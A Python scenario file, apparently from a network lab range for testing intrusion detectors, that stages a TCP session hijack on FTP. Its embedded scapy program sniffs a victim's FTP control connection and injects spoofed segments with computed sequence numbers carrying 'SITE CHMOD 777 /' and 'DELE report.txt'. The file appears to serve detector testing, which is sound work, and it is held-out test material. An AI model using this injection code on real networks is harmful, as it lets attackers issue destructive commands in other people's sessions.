"""A line put into somebody's FTP control connection, which from then on fits to neither end."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

PERSON = """
import socket, sys, time
while True:
    try:
        with socket.create_connection((sys.argv[1], 21), timeout=4) as server:
            server.recv(400)
            for line in (b'USER anonymous', b'PASS a@b', b'PWD', b'TYPE I', b'SIZE report.txt', b'NOOP',
                         b'NOOP', b'STAT', b'QUIT'):
                server.sendall(line + b'\\r\\n')
                server.recv(900)
                time.sleep(0.7)
    except OSError:
        time.sleep(0.5)  # the connection was spoiled: a person tries again
"""
PROGRAM = """
import sys
client, server = sys.argv[1:3]
done = set()
def look(packet):
    tcp = packet[TCP]
    if tcp.sport in done or bytes(tcp.payload) != b'TYPE I\\r\\n':
        return
    done.add(tcp.sport)
    time.sleep(0.25)  # the server has answered, the person has not yet gone on
    for number, line in enumerate((b'SITE CHMOD 777 /\\r\\n', b'DELE report.txt\\r\\n')):
        seq = tcp.seq + len(tcp.payload) + number * 18
        # The server's answer to TYPE is 31 octets long.
        send(IP(src=client, dst=server, ttl=64, id=4660 + number, flags='DF') / TCP(
            sport=tcp.sport, dport=21, flags='PA', seq=seq, ack=tcp.ack + 31, window=502) / Raw(line))
sniff(filter=f'tcp and src host {client} and dst port 21', prn=look, timeout=float(sys.argv[3]))
"""


def run(net: Range) -> None:
    attacker, person, files = net.inside("attacker"), net.inside("pc3"), net.inside("files")
    servers.files(files)
    # A hub in a switch's place: the attacker sees what others say, as on a mirror port or a WLAN.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    person.start("/usr/bin/python3", "-c", PERSON, files.ip)
    net.loop(net.inside("pc2"), f"curl -s -m 3 -o /dev/null ftp://{files.ip}/report.txt", 1.8)
    net.quiet(8)
    with net.attack(
        "session-hijack",
        by=attacker,
        victims=[files, person],
        attacker_known=False,
        others={"sender": [attacker.mac], "claimed": [person]},
        frames=f"tcp and src host {person.ip} and dst port 21",
        responses=f"tcp and host {person.ip} and port 21",
    ):
        net.scapy(attacker, PROGRAM, person.ip, files.ip, "16", seconds=24)
    net.quiet(3)


SCENARIO = Scenario(
    name="session-hijack-held-ftp",
    about="A station that sees FTP sessions puts two orders into each of a person's, in the person's name.",
    detectors=("session-hijack",),
    tools={"vsftpd": "vsftpd"},
    held_out=True,
    run=run,
)
